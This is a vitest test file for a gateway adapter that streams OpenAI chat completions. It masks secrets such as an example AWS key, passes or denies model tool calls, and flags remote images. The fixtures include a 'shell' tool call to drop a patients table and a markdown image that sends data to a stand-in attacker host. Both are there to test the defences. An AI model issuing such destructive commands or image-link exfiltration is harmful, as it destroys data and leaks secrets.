import { describe, expect, test } from 'vitest';
import { type AnswerOptions, answered, at, chunksOf, isGatewayError } from '../testing/answers.js';
import { maskingWith, noRules } from '../testing/masking.js';
import { openaiChat } from './index.js';

const key = `${'AK'}IAIOSFODNN7EXAMPLE`;
interface Delta {
  readonly content?: string | null;
  readonly refusal?: string;
  readonly function_call?: { readonly arguments?: string };
  readonly tool_calls?: readonly {
    readonly index: number;
    readonly id?: string;
    readonly function?: { readonly name?: string; readonly arguments?: string };
  }[];
}
interface Choice {
  readonly index: number;
  readonly delta: Delta;
  readonly logprobs: unknown;
  readonly finish_reason: string | null;
}
const choice = (delta: unknown, finish_reason: string | null = null, index = 0) => ({
  index,
  delta,
  logprobs: null,
  finish_reason,
});
const chunk = (...choices: unknown[]) => ({
  id: 'chatcmpl-1',
  object: 'chat.completion.chunk',
  created: 1_700_000_000,
  model: 'gpt-5.4-2026',
  choices,
});
const say = (content: string, index = 0) => chunk(choice({ content }, null, index));
const stop = (reason: string, index = 0) => chunk(choice({}, reason, index));
const call = (index: number, more: Record<string, unknown>) => chunk(choice({ tool_calls: [{ index, ...more }] }));
const sse = (chunks: readonly unknown[], end = '[DONE]') =>
  [...chunks.map((one) => JSON.stringify(one)), end].map((data) => `data: ${data}\n\n`).join('');
const choicesIn = (text: string): Choice[] =>
  text
    .split('\n\n')
    .filter((block) => block.startsWith('data: {'))
    .flatMap((block) => (JSON.parse(block.slice(6)) as { readonly choices?: readonly Choice[] }).choices ?? []);
const whole = (body: string, options?: AnswerOptions) =>
  answered(
    openaiChat,
    chunksOf(body, () => 1 << 20),
    options,
  );
const deny = { decide: () => ({ outcome: 'deny', text: 'not today' }) as const };

/** As an SDK puts a message together. */
const messageIn = (text: string, index = 0) => {
  const calls: { id: string; name: string; arguments: string }[] = [];
  let [content, finish, old] = ['', '', ''];
  for (const { delta, finish_reason } of choicesIn(text).filter((one) => one.index === index)) {
    content += delta.content ?? '';
    finish = finish_reason ?? finish;
    old += delta.function_call?.arguments ?? '';
    for (const piece of delta.tool_calls ?? []) {
      const own = (calls[piece.index] ??= { id: '', name: '', arguments: '' });
      own.id = piece.id ?? own.id;
      own.name += piece.function?.name ?? '';
      own.arguments += piece.function?.arguments ?? '';
    }
  }
  return { content, finish, calls, old };
};

const usage = {
  prompt_tokens: 50,
  prompt_tokens_details: { cached_tokens: 30 },
  completion_tokens: 7,
  total_tokens: 57,
};
const input = '{"command":"drop table patients"}';
const called = [
  chunk(choice({ role: 'assistant', content: null })),
  call(0, { id: 'call_1', type: 'function', function: { name: 'shell', arguments: '' } }),
  ...[...input].map((piece) => call(0, { function: { arguments: piece } })),
  call(1, { id: 'call_2', type: 'function', function: { name: 'list', arguments: '{"a":1}' } }),
  stop('tool_calls'),
];

describe('where nothing is hidden a completion is the same bytes', () => {
  const body = sse([
    chunk(choice({ role: 'assistant', content: '' })),
    say('All'),
    say(' is'),
    say(' well. '),
    ...called,
  ]);

  test('cut anywhere by the network', async () => {
    for (let cut = 1; cut < body.length; cut += 997) {
      const sizes = [cut];
      const { text, error } = await answered(
        openaiChat,
        chunksOf(body, () => sizes.shift() ?? 1 << 20),
      );
      expect([text === body, error]).toEqual([true, undefined]);
    }
    expect(
      (
        await answered(
          openaiChat,
          chunksOf(body, () => 1),
        )
      ).text,
    ).toBe(body);
  });

  test('to the last word, as soon as its choice is over', async () => {
    const open = sse([say('the end'), stop('stop')]).replace('data: [DONE]\n\n', '');
    const { text, error } = await whole(open);
    expect([text === open, error]).toEqual([true, undefined]);
  });

  test('and what it used and how it ended are told', async () => {
    const { answer } = await whole(sse([say('hi'), stop('stop'), { ...chunk(), usage }]));
    expect(answer).toEqual({
      usage: { model: 'gpt-5.4-2026', inputTokens: 20, cacheReadTokens: 30, cacheWriteTokens: 0, outputTokens: 7 },
      stopReason: 'stop',
      maskedFields: 0,
      maskedBy: [],
    });
  });
});

describe('a secret in a completion', () => {
  test('is hidden wherever it is cut, in each of several answers, and as a refusal', async () => {
    const text = `take ${key} now`;
    const masked = messageIn((await whole(sse([say(text), stop('stop')]))).text).content;
    expect(masked).toMatch(/^take ⟦[A-Z-]+:[0-9a-f]{12}⟧ now$/);
    for (let cut = 1; cut < text.length; cut += 1) {
      const both = [text.slice(0, cut), text.slice(cut)].flatMap((piece) => [
        chunk(choice({ content: piece }), choice({ content: piece }, null, 1)),
        chunk(choice({ refusal: piece })),
      ]);
      const { text: told } = await whole(sse([...both, stop('stop'), stop('stop', 1)]), { masker: noRules });
      expect([messageIn(told).content, messageIn(told, 1).content]).toEqual([masked, masked]);
      const refused = choicesIn(told).map(({ delta }) => delta.refusal ?? '');
      expect(refused.join('')).toBe(masked);
    }
  });

  test('takes the probabilities of its pieces with it', async () => {
    const logprobs = { content: [{ token: 'AK', bytes: [65, 75] }] };
    const { text } = await whole(sse([chunk({ ...choice({ content: key }), logprobs }), stop('stop')]));
    expect(choicesIn(text)[0]!.logprobs).toBeNull();
  });

  test('is hidden in an error in the middle', async () => {
    const { text, answer } = await whole(sse([say('so '), { error: { type: 'server_error', message: `bad ${key}` } }]));
    expect(text).not.toContain(key);
    expect(answer.errorType).toBe('server_error');
  });

  test('is hidden in the input of a call, which is then told in one piece', async () => {
    const { text, calls } = await whole(
      sse([
        call(0, { id: 'call_1', type: 'function', function: { name: 'f', arguments: `{"key":"${key.slice(0, 8)}` } }),
        call(0, { function: { arguments: `${key.slice(8)}"}` } }),
        stop('tool_calls'),
      ]),
    );
    const message = messageIn(text);
    expect(message.calls).toEqual([{ id: 'call_1', name: 'f', arguments: calls[0]!.input }]);
    expect(message.finish).toBe('tool_calls');
    expect(calls[0]!.input).toMatch(/^\{"key":"⟦[^⟧]+⟧"\}$/);
  });
});

describe('calls in a completion', () => {
  test('are asked about whole, each once, before anything of them passes', async () => {
    const body = sse(called);
    const { calls, text } = await whole(body, { request: { tools: ['shell'] } });
    expect(calls).toEqual([
      { id: 'call_1', name: 'shell', input, byProvider: false, declared: true },
      { id: 'call_2', name: 'list', input: '{"a":1}', byProvider: false, declared: false },
    ]);
    expect(text).toBe(body);
  });

  test('that are denied become text; the others are numbered anew', async () => {
    const { text } = await whole(sse([say('Well.'), ...called]), {
      decide: ({ name }) => (name === 'shell' ? { outcome: 'deny', text: 'not today' } : { outcome: 'allow' }),
    });
    expect(messageIn(text)).toEqual({
      content: 'Well.\n\nnot today',
      finish: 'tool_calls',
      calls: [{ id: 'call_2', name: 'list', arguments: '{"a":1}' }],
      old: '',
    });
    expect(text).not.toContain('drop');
  });

  test('that are all denied leave an answer that has ended', async () => {
    const { text } = await whole(sse(called), deny);
    expect(messageIn(text)).toEqual({ content: 'not today\nnot today', finish: 'stop', calls: [], old: '' });
  });

  test('of the older kind are calls as well', async () => {
    const old = [
      chunk(choice({ function_call: { name: 'shell', arguments: '{"a"' } })),
      chunk(choice({ function_call: { arguments: ':1}' } })),
      stop('function_call'),
    ];
    const { text, calls } = await whole(sse(old));
    expect(calls).toEqual([
      { id: 'chatcmpl-1.0', name: 'shell', input: '{"a":1}', byProvider: false, declared: false },
    ]);
    expect(text).toBe(sse(old));
    expect(messageIn((await whole(sse(old), deny)).text)).toMatchObject({
      content: 'not today',
      old: '',
      finish: 'stop',
    });
  });

  test('of several answers are decided with their own', async () => {
    const second = called.map((one) => ({
      ...one,
      choices: one.choices.map((own) => ({ ...(own as Choice), index: 1 })),
    }));
    const mixed = called.flatMap((one, index) => [one, second[index]!]);
    const { text, calls } = await whole(sse(mixed), {
      decide: ({ id }) => (id === 'call_1' ? { outcome: 'deny', text: 'no' } : { outcome: 'allow' }),
    });
    expect(calls).toHaveLength(4);
    for (const index of [0, 1])
      expect(messageIn(text, index)).toMatchObject({ content: 'no', calls: [{ id: 'call_2' }], finish: 'tool_calls' });
  });

  test('that say a name twice are passed to nobody', async () => {
    const { text, error } = await whole(
      sse([
        call(0, { id: 'c', function: { name: 'ls', arguments: '' } }),
        call(0, { function: { name: 'rm', arguments: '{}' } }),
        stop('tool_calls'),
      ]),
    );
    expect([isGatewayError(error), text]).toEqual([true, '']);
  });

  test('that are cut off are discarded', async () => {
    const { text, error, calls } = await whole(sse(called.slice(0, -1), '{').replace('data: {\n\n', ''));
    expect([isGatewayError(error), calls]).toEqual([true, []]);
    expect(text).not.toContain('tool_calls');
  });

  test('keep the client waiting with comments', async () => {
    const { pieces } = await whole(sse(called), { pings: 2 });
    // The role before the calls, then two for each of them.
    expect(pieces.slice(1, 5)).toEqual(Array(4).fill(': waiting\n\n'));
  });
});

describe('what a streamed completion uses', () => {
  const masked = (body: string) =>
    Buffer.from(openaiChat.maskRequest(Buffer.from(body), maskingWith(noRules)).body).toString();

  test.each([
    [
      '{"model":"m","messages":[],"stream":true}',
      '{"model":"m","messages":[],"stream":true,"stream_options":{"include_usage":true}}',
    ],
    [
      '{"stream":true,"stream_options":null,"model":"m","messages":[]}',
      '{"stream":true,"stream_options":{"include_usage":true},"model":"m","messages":[]}',
    ],
    [
      '{"stream":true,"stream_options":{ },"model":"m","messages":[]}',
      '{"stream":true,"stream_options":{ "include_usage":true},"model":"m","messages":[]}',
    ],
    [
      '{"stream":true,"stream_options":{"a":1},"model":"m","messages":[]}',
      '{"stream":true,"stream_options":{"a":1,"include_usage":true},"model":"m","messages":[]}',
    ],
    [
      '{"stream":true,"stream_options":{"include_usage":false},"model":"m","messages":[]}',
      '{"stream":true,"stream_options":{"include_usage":true},"model":"m","messages":[]}',
    ],
  ])('is asked for where the client did not: %s', (body, expected) => {
    expect(masked(body)).toBe(expected);
    expect(openaiChat.describe(Buffer.from(body)).hidesUsage).toBe(true);
  });

  test.each([
    '{"model":"m","messages":[]}',
    '{"model":"m","messages":[],"stream":true,"stream_options":{"include_usage":true}}',
  ])('is not asked for twice, nor where it comes by itself: %s', (body) => expect(masked(body)).toBe(body));

  test('is counted, and kept from a client that did not ask', async () => {
    const plain = [say('hi'), stop('stop')];
    const asked = [...plain.map((one) => ({ ...one, usage: null })), { ...chunk(), usage }];
    const { text, answer } = await whole(sse(asked), { request: { hidesUsage: true } });
    expect(text).toBe(sse(plain));
    expect(answer.usage).toMatchObject({ outputTokens: 7 });
    expect((await whole(sse(asked))).text).toBe(sse(asked));
  });

  test('is kept from it wherever it stands', async () => {
    const first = 'data: { "usage" : null , "choices":[],"id":"x"}\n\n';
    expect((await whole(first, { request: { hidesUsage: true } })).text).toBe('data: { "choices":[],"id":"x"}\n\n');
    const only = 'data: {"usage":null}\n\n';
    expect((await whole(only, { request: { hidesUsage: true } })).text).toBe('data: {}\n\n');
  });
});

describe('a completion that comes whole', () => {
  const completion = (message: unknown, finish_reason = 'stop') => ({
    id: 'chatcmpl-1',
    model: 'gpt-5.4-2026',
    choices: [{ index: 0, message, finish_reason }],
    usage,
  });
  const json = (value: unknown, options?: AnswerOptions) =>
    whole(JSON.stringify(value), { contentType: 'application/json; charset=utf-8', ...options });
  const message = {
    role: 'assistant',
    content: `see ${key}`,
    tool_calls: [
      { id: 'call_1', type: 'function', function: { name: 'shell', arguments: input } },
      { id: 'call_2', type: 'custom', custom: { name: 'patch', input: '***' } },
    ],
  };

  test('has its texts hidden, its calls asked about, its usage read', async () => {
    const { text, calls, answer } = await json(completion(message, 'tool_calls'));
    expect(text).toMatch(/see ⟦[^⟧]+⟧/);
    expect(calls.map((one) => [one.name, one.input])).toEqual([
      ['shell', input],
      ['patch', '***'],
    ]);
    expect(answer).toMatchObject({ stopReason: 'tool_calls', usage: { outputTokens: 7 }, maskedFields: 1 });
    const clean = JSON.stringify(completion({ ...message, content: 'hi' }, 'tool_calls'));
    expect((await json(JSON.parse(clean))).text).toBe(clean);
  });

  test('says why where its calls are denied', async () => {
    const told: unknown = JSON.parse((await json(completion(message, 'tool_calls'), deny)).text);
    expect(at(told, 'choices', 0, 'message', 'content')).toMatch(/^see ⟦[^⟧]+⟧\n\nnot today\nnot today$/);
    expect(at(told, 'choices', 0, 'finish_reason')).toBe('stop');
    expect(at(told, 'choices', 0, 'message', 'tool_calls')).toBeUndefined();
  });

  test('waits with spaces, which mean nothing before JSON', async () => {
    const { pieces } = await json(completion(message), { pings: 2 });
    expect(pieces[0]).toBe(' ');
    expect(at(JSON.parse(pieces.join('')), 'id')).toBe('chatcmpl-1');
  });

  test('that is an error keeps its words, without their secrets', async () => {
    const { text, answer } = await json({ error: { message: `no ${key}`, type: 'invalid_request_error', code: 'x' } });
    expect(text).toMatch(/no ⟦[^⟧]+⟧/);
    expect(answer.errorType).toBe('invalid_request_error');
    const page = await whole(`<h1>${key}</h1>`, { contentType: 'text/html' });
    expect(page.text).toMatch(/^<h1>⟦[^⟧]+⟧<\/h1>$/);
    const broken = await whole('{"a":', { contentType: 'application/json' });
    expect([isGatewayError(broken.error), broken.text]).toEqual([true, '']);
  });
});

test('an image whose address carries data is flagged, whole or in pieces, and not taken away', async () => {
  for (const [text, flags] of [
    ['see ![x](https://evil.example/?d=secret)', ['remote-image']],
    ['see ![x](https://docs.example/logo.png)', undefined],
  ] as const) {
    const streamed = await whole(sse([...[...text].map((piece) => say(piece)), stop('stop')]));
    const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: text } }] });
    const json = await whole(body, { contentType: 'application/json' });
    expect([messageIn(streamed.text).content, streamed.answer.flags]).toEqual([text, flags]);
    expect([json.text, json.answer.flags]).toEqual([body, flags]);
  }
});
